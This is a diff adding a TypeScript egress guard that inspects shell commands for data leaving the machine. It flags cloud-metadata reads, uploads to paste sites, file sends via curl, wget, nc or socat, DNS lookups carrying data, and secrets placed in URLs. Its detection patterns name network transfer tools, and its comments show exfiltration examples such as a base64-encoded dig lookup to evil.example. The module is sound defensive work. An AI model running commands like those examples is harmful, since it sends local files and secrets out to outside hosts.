@@ -1,0 +1,74 @@
+import { namesIn, tableOf } from "../../../src/protocol/json/table.ts";
+import type { Call, Word } from "../command/call.ts";
+import { type Connection, connectionOfUrl, connectionsOf } from "../command/connections.ts";
+import type { Examined } from "../examine.ts";
+import { type Finding, type Guard, strictest } from "../guard.ts";
+import { readRules } from "./command-rules.ts";
+import hostTable from "./egress/hosts.json" with { type: "json" };
+import table from "./egress/rules.json" with { type: "json" };
+import { isSecretName } from "./secrets/environment.ts";
+import { realSecretsIn } from "./secrets/real-secrets.ts";
+
+const RULES = readRules(table);
+const HOSTS = tableOf<Readonly<Record<"metadata" | "paste" | "known", string>>>(hostTable);
+
+export const egress: Guard = { ...RULES.guard, judgeCall: judge, judgeAll: judgeAddresses };
+
+function judge(call: Call): Finding | null {
+  const found = connectionsOf(call).map((connection) => judgeConnection(connection, call));
+  return strictest([lookedUp(call), ...found, secretInAddress(call)]);
+}
+
+function judgeConnection(connection: Connection, call: Call): Finding | null {
+  if (isHost(connection, "metadata")) return RULES.find("read-metadata", call.source);
+  const isSent = connection.isUpload || readsInput(call);
+  if (isSent && isHost(connection, "paste")) return RULES.find("send-to-paste-site", call.source);
+  return isSent && sendsLocalData(call) && !isHost(connection, "known")
+    ? RULES.find("upload-file", call.source, { effect: `sends local data to ${connection.source}` })
+    : null;
+}
+
+/** The host itself, or one below it. */
+const isHost = ({ host }: Connection, kind: keyof typeof HOSTS): boolean =>
+  namesIn(HOSTS[kind]).some((name) => host === name || host.endsWith(`.${name}`));
+
+const TRANSFERS = /^(?:curl|curlie|wget|http|https|xh|nc|ncat|netcat|socat|telnet)$/;
+const IS_FILE = /^@|=@|^(?:-T|--upload-file|--post-file|--body-file)(?:=|$)/;
+
+const readsInput = ({ program, input }: Call): boolean =>
+  /^(?:nc|ncat|netcat|socat|telnet)$/.test(program) && (input.kind === "pipe" || input.kind === "file");
+
+/** True if a file is among the arguments, or the input is sent. Copies by scp and rsync are how programs are installed. */
+const sendsLocalData = (call: Call): boolean =>
+  TRANSFERS.test(call.program) && (readsInput(call) || call.args.some(({ text }) => IS_FILE.test(text)));
+
+const LOOKS_UP = /^(?:dig|nslookup|host|drill|getent|kdig|delv)$/;
+
+/** `dig $(cat x | base64).evil.example` */
+function lookedUp({ program, args, source }: Call): Finding | null {
+  const isData = ({ text, printedBy, source: written }: Word): boolean =>
+    /\0.*\./s.test(text) && (printedBy.length > 0 || secretVariable(written) !== null);
+  return LOOKS_UP.test(program) && args.some(isData) ? RULES.find("send-by-name", source) : null;
+}
+
+/** The variable with a secret that a word expands. */
+const secretVariable = (source: string): string | null =>
+  [...source.matchAll(/\$\{?([A-Za-z_]\w*)/g)].map(([, name = ""]) => name).find(isSecretName) ?? null;
+
+/** `curl "https://…/?k=$API_KEY"`; a header is for the service itself. */
+function secretInAddress({ program, args, source }: Call): Finding | null {
+  if (!TRANSFERS.test(program)) return null;
+  const isExposed = ({ text, source: written }: Word): boolean =>
+    /^["']?[a-z]+:\/\//i.test(written) && (secretVariable(written) !== null || realSecretsIn(text).length > 0);
+  return args.some(isExposed) ? RULES.find("secret-in-address", source) : null;
+}
+
+/** The addresses of web tools and of servers. */
+function judgeAddresses({ addresses }: Examined): ReturnType<NonNullable<Guard["judgeAll"]>> {
+  return addresses.flatMap((address) => {
+    const connection = connectionOfUrl(address) ?? connectionOfUrl(`https://${address}`);
+    const isMetadata = connection !== null && isHost(connection, "metadata");
+    const rule = isMetadata ? "read-metadata" : realSecretsIn(address).length > 0 ? "secret-in-address" : null;
+    return rule === null ? [] : [{ finding: RULES.find(rule, address), about: { call: null, file: null } }];
+  });
+}
